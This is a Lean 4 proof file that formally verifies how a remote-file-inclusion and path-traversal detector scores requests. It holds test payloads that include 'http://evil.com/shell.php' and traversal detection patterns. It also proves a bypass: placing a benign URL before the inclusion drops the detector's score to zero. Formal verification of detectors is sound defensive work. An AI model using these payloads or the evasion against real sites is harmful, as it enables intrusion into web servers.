/-
Nullsploit/RemoteInclusion.lean

Remote file inclusion, as kernel/path_detect.c looks for it.  A URL counts where
it starts the text or stands behind an equals sign, but only one URL is looked
at: the first occurrence of `http://`, or of `https://` where there is no
`http://`, or of `ftp://` where there is neither.

So an inclusion behind another URL is reported only if that other URL is one
too, or if the rest of the text is worth 45 points without it
(`inclusion_reported_iff`).  The signs of the rest are counted here as what they
are, places in the text: the counting loops skip three bytes at a match, which
misses nothing, as their words do not overlap themselves (`strstrCount_eq`).
-/
import Nullsploit.PathDetect

namespace Nullsploit

open CText

/-! ### URLs in a text -/

/-- The schemes in the order they are searched. -/
def urlSchemes : List (List UInt8) := [str "http://", str "https://", str "ftp://"]

/-- A value starts behind this text: it is empty or ends with an equals sign. -/
def ValueStart (front : List UInt8) : Prop := front = [] ∨ front.getLast? = some (ch '=')

/-- Some URL starts the text or is a value in it. -/
def Includes (text : List UInt8) : Prop :=
  ∃ scheme ∈ urlSchemes, ∃ front rest, text = front ++ (scheme ++ rest) ∧ ValueStart front

/-- The first occurrence of the first scheme that occurs, and the text in front
of it. -/
def FirstUrl (text front : List UInt8) : Prop :=
  ∃ before scheme after rest, urlSchemes = before ++ scheme :: after ∧
    (∀ s ∈ before, ¬ s <:+: text) ∧ text = front ++ (scheme ++ rest) ∧
    ∀ front' rest', text = front' ++ (scheme ++ rest') → front.length ≤ front'.length

/-- `http_idx`. -/
theorem findSome_urlSchemes (s : List UInt8) :
    (strstrFrom (str "http://") s <|> strstrFrom (str "https://") s <|> strstrFrom (str "ftp://") s)
      = urlSchemes.findSome? (strstrFrom · s) := by
  unfold urlSchemes
  rcases h₁ : strstrFrom (str "http://") s with - | r₁ <;>
    rcases h₂ : strstrFrom (str "https://") s with - | r₂ <;>
    rcases h₃ : strstrFrom (str "ftp://") s with - | r₃ <;>
    simp [List.findSome?, h₁, h₂, h₃]

/-- The URL that is looked at is the first one. -/
theorem findSome_eq_some_iff {s front found : List UInt8} (hs : s = front ++ found) :
    urlSchemes.findSome? (strstrFrom · s) = some found ↔ FirstUrl s front := by
  rw [List.findSome?_eq_some_iff]
  constructor
  · rintro ⟨before, scheme, after, hsplit, hfound, hbefore⟩
    obtain ⟨pre, hpre, ⟨rest, hrest⟩, hfirst⟩ := strstrFrom_eq_some hfound
    obtain rfl : pre = front := List.append_cancel_right (hpre.symm.trans hs)
    refine ⟨before, scheme, after, rest, hsplit, ?_, by rw [hs, hrest], ?_⟩
    · exact fun w hw => strstrFrom_eq_none_iff.mp (hbefore w hw)
    · exact fun front' rest' h => hfirst front' _ h (List.prefix_append _ _)
  · rintro ⟨before, scheme, after, rest, hsplit, hbefore, htext, hfirst⟩
    refine ⟨before, scheme, after, hsplit, ?_, fun w hw => strstrFrom_eq_none_iff.mpr (hbefore w hw)⟩
    rcases e : strstrFrom scheme s with - | r
    · exact absurd ⟨front, rest, by rw [htext, List.append_assoc]⟩ (strstrFrom_eq_none_iff.mp e)
    · obtain ⟨pre, hpre, ⟨rest', hrest'⟩, hleast⟩ := strstrFrom_eq_some e
      have h₁ := hfirst pre rest' (by rw [hpre, hrest'])
      have h₂ := hleast front (scheme ++ rest) htext (List.prefix_append _ _)
      obtain ⟨-, rfl⟩ := List.append_inj (hpre.symm.trans hs) (Nat.le_antisymm h₂ h₁)
      rfl

/-- The byte in front of the URL, as the code looks at it. -/
theorem valueStart_iff {front found : List UInt8} :
    ((front ++ found).length - found.length = 0 ∨
        (front ++ found).getD ((front ++ found).length - found.length - 1) 0 = ch '=')
      ↔ ValueStart front := by
  rw [List.length_append, Nat.add_sub_cancel]
  rcases List.eq_nil_or_concat front with rfl | ⟨init, c, rfl⟩
  · exact iff_of_true (Or.inl rfl) (Or.inl rfl)
  · rw [List.concat_eq_append]
    have hget : (init ++ [c] ++ found).getD ((init ++ [c]).length - 1) 0 = c := by
      simp
    rw [hget, ValueStart, List.getLast?_concat]
    simp

theorem rfiMatch_iff {decoded : List UInt8} (hzero : (0 : UInt8) ∉ decoded) :
    rfiMatch decoded = true ↔ ∃ front, FirstUrl decoded front ∧ ValueStart front := by
  unfold rfiMatch
  dsimp only
  rw [cstr_of_not_mem hzero, findSome_urlSchemes]
  rcases e : urlSchemes.findSome? (strstrFrom · decoded) with - | found
  · refine iff_of_false Bool.false_ne_true ?_
    rintro ⟨front, hfirst, -⟩
    obtain ⟨_, _, _, rest, _, _, htext, _⟩ := id hfirst
    have := (findSome_eq_some_iff htext).mpr hfirst
    rw [e] at this
    cases this
  · obtain ⟨-, scheme, -, -, hfound, -⟩ := List.findSome?_eq_some_iff.mp e
    obtain ⟨front, rfl, -⟩ := strstrFrom_eq_some hfound
    have hfirst := (findSome_eq_some_iff rfl).mp e
    dsimp only
    rw [decide_eq_true_iff, valueStart_iff]
    constructor
    · exact fun hstart => ⟨front, hfirst, hstart⟩
    · rintro ⟨front', hfirst', hstart⟩
      obtain ⟨_, _, _, rest, _, _, htext, _⟩ := id hfirst'
      have hsame := (findSome_eq_some_iff htext).mpr hfirst'
      rw [e] at hsame
      rw [← Option.some.inj hsame] at htext
      rwa [List.append_cancel_right htext]

/-! ### Counting -/

/-- The places of the text where the word stands. -/
def occurrences (word text : List UInt8) : Nat := text.tails.countP (word <+: ·)

theorem occurrences_cons (word : List UInt8) (b : UInt8) (text : List UInt8) :
    occurrences word (b :: text) = (if word <+: b :: text then 1 else 0) + occurrences word text := by
  rw [occurrences, List.tails_cons, List.countP_cons, Nat.add_comm]
  simp [occurrences]

/-- Two dots and a byte that is none. -/
def dots (c : UInt8) : List UInt8 := [ch '.', ch '.', c]

theorem occurrences_dots_nil (c : UInt8) : occurrences (dots c) [] = 0 := by
  simp [occurrences, dots]

/-- Behind a match the next one is three bytes away or more. -/
theorem occurrences_dots_append {c : UInt8} (hc : c ≠ ch '.') (rest : List UInt8) :
    occurrences (dots c) (dots c ++ rest) = occurrences (dots c) rest + 1 := by
  have h₁ : ¬ dots c <+: ch '.' :: c :: rest := by
    rintro ⟨t, ht⟩
    exact hc (List.cons_eq_cons.mp (List.cons_eq_cons.mp ht).2).1.symm
  have h₂ : ¬ dots c <+: c :: rest := by
    rintro ⟨t, ht⟩
    exact hc (List.cons_eq_cons.mp ht).1.symm
  show occurrences (dots c) (ch '.' :: ch '.' :: c :: rest) = _
  rw [occurrences_cons, occurrences_cons, occurrences_cons, if_pos ⟨rest, rfl⟩, if_neg h₁,
    if_neg h₂]
  omega

/-- What is skipped in front of the first match has none. -/
theorem occurrences_of_strstrFrom {c : UInt8} {text : List UInt8} :
    (strstrFrom (dots c) text = none → occurrences (dots c) text = 0) ∧
      ∀ found, strstrFrom (dots c) text = some found →
        occurrences (dots c) text = occurrences (dots c) found := by
  induction text with
  | nil =>
      refine ⟨fun _ => occurrences_dots_nil c, fun found h => ?_⟩
      cases h
  | cons b text ih =>
      rw [strstrFrom, occurrences_cons]
      by_cases hhere : dots c <+: b :: text
      · rw [if_pos hhere, if_pos hhere]
        constructor
        · intro h
          cases h
        · intro found h
          obtain rfl := Option.some.inj h
          rw [occurrences_cons, if_pos hhere]
      · rw [if_neg hhere, if_neg hhere, Nat.zero_add]
        exact ih

/-- The counting loop finds all of them. -/
theorem strstrCount_eq {c : UInt8} (hc : c ≠ ch '.') {fuel : Nat} {text : List UInt8}
    (hfuel : text.length ≤ fuel) :
    strstrCount (dots c) fuel text = occurrences (dots c) text := by
  induction fuel generalizing text with
  | zero =>
      obtain rfl := List.length_eq_zero_iff.mp (Nat.le_zero.mp hfuel)
      exact (occurrences_dots_nil c).symm
  | succ fuel ih =>
      rw [strstrCount]
      rcases e : strstrFrom (dots c) text with - | found
      · exact (occurrences_of_strstrFrom.1 e).symm
      · obtain ⟨front, htext, ⟨rest, rfl⟩, -⟩ := strstrFrom_eq_some e
        have hlen := congrArg List.length htext
        simp only [List.length_append, dots, List.length_cons, List.length_nil] at hlen
        rw [occurrences_of_strstrFrom.2 _ e, occurrences_dots_append hc]
        show strstrCount (dots c) fuel rest + 1 = _
        rw [ih (by omega)]

/-- The places where the text climbs a directory. -/
def traversals (text : List UInt8) : Nat :=
  occurrences (str "../") text + occurrences (str "..\\") text + occurrences (str "..;") text

theorem traversalCount_eq {decoded : List UInt8} (hzero : (0 : UInt8) ∉ decoded) :
    traversalCount decoded = traversals decoded := by
  have h₁ : str "../" = dots (ch '/') := by decide
  have h₂ : str "..\\" = dots (ch '\\') := by decide
  have h₃ : str "..;" = dots (ch ';') := by decide
  unfold traversalCount traversals
  dsimp only
  rw [cstr_of_not_mem hzero, h₁, h₂, h₃, strstrCount_eq (by decide) (Nat.le_refl _),
    strstrCount_eq (by decide) (Nat.le_refl _), strstrCount_eq (by decide) (Nat.le_refl _)]

/-! ### The score -/

/-- The signs other than a URL that are worth 45 points. -/
def PathSigns (payload text : List UInt8) : Prop :=
  showsAny phpWrappers text = true ∨ 3 ≤ traversals text ∨
    showsAny lfiTargets text = true ∧ (1 ≤ traversals text ∨ nullByte payload = true) ∨
    2 ≤ traversals text ∧ nullByte payload = true

theorem score_detectPathTraversal (maxPatternLen maxDetailsLen : Nat) {payload : List UInt8}
    (hzero : (0 : UInt8) ∉ decodedPayload payload) :
    45 ≤ (detectPathTraversal maxPatternLen maxDetailsLen payload).score ↔
      rfiMatch (decodedPayload payload) = true ∨ PathSigns payload (decodedPayload payload) := by
  have hany : ∀ words : List (List UInt8), words.any (strcaseContains (decodedPayload payload))
      = showsAny words (decodedPayload payload) := by
    intro words
    unfold showsAny
    congr 1
    funext word
    rw [strcaseContains_eq, cstr_of_not_mem hzero]
  have hpoints : (if decide (traversals (decodedPayload payload) > 0) = true then
      (traversals (decodedPayload payload) : Int) * 15 else 0)
      = 15 * traversals (decodedPayload payload) := by
    by_cases h : traversals (decodedPayload payload) > 0
    · rw [if_pos (decide_eq_true h), Int.mul_comm]
    · rw [if_neg (by simpa using h), Nat.eq_zero_of_not_pos h]
      rfl
  simp only [detectPathTraversal, pathTally, Tally.score_note, hany, traversalCount_eq hzero,
    hpoints, PathSigns]
  rcases rfiMatch (decodedPayload payload) with - | - <;>
    rcases showsAny phpWrappers (decodedPayload payload) with - | - <;>
    rcases showsAny lfiTargets (decodedPayload payload) with - | - <;>
    rcases nullByte payload with - | - <;> simp <;> omega

/-- **When an inclusion is reported.**  A text with a URL that starts it or is a
value in it gets 45 points exactly if the first URL is such a one, or if its
other signs are worth as much. -/
theorem inclusion_reported_iff (maxPatternLen maxDetailsLen : Nat) {payload : List UInt8}
    (hzero : (0 : UInt8) ∉ decodedPayload payload) :
    (Includes (decodedPayload payload) →
        45 ≤ (detectPathTraversal maxPatternLen maxDetailsLen payload).score) ↔
      (Includes (decodedPayload payload) →
        (∃ front, FirstUrl (decodedPayload payload) front ∧ ValueStart front) ∨
          PathSigns payload (decodedPayload payload)) := by
  rw [score_detectPathTraversal maxPatternLen maxDetailsLen hzero, rfiMatch_iff hzero]

/-- The inclusion of the detector's test, with a link behind it. -/
theorem inclusion_reported_before_link :
    let payload := str "include=http://evil.com/shell.php ref: http://a.com/"
    (0 : UInt8) ∉ decodedPayload payload ∧ Includes (decodedPayload payload) ∧
      45 ≤ (detectPathTraversal 128 256 payload).score := by
  intro payload
  have hzero : (0 : UInt8) ∉ decodedPayload payload := by decide +kernel
  have htext : decodedPayload payload
      = str "include=" ++ (str "http://" ++ str "evil.com/shell.php ref: http://a.com/") := by
    decide +kernel
  have hvalue : ValueStart (str "include=") := Or.inr (by decide)
  have hincludes : Includes (decodedPayload payload) :=
    ⟨str "http://", by simp [urlSchemes], _, _, htext, hvalue⟩
  refine ⟨hzero, hincludes, (inclusion_reported_iff 128 256 hzero).mpr (fun _ => ?_) hincludes⟩
  refine Or.inl ⟨_, (findSome_eq_some_iff htext).mp ?_, hvalue⟩
  decide +kernel

/-- A link in front of the inclusion is looked at instead, and the request scores
nothing. -/
theorem earlier_url_hides_inclusion :
    let payload := str "ref: http://a.com/ file=http://evil.com/shell.php"
    (0 : UInt8) ∉ decodedPayload payload ∧ Includes (decodedPayload payload) ∧
      (detectPathTraversal 128 256 payload).score = 0 := by
  intro payload
  have htext : decodedPayload payload
      = str "ref: http://a.com/ file=" ++ (str "http://" ++ str "evil.com/shell.php") := by
    decide +kernel
  exact ⟨by decide, ⟨str "http://", by simp [urlSchemes], _, _, htext, Or.inr (by decide)⟩, by decide +kernel⟩

end Nullsploit
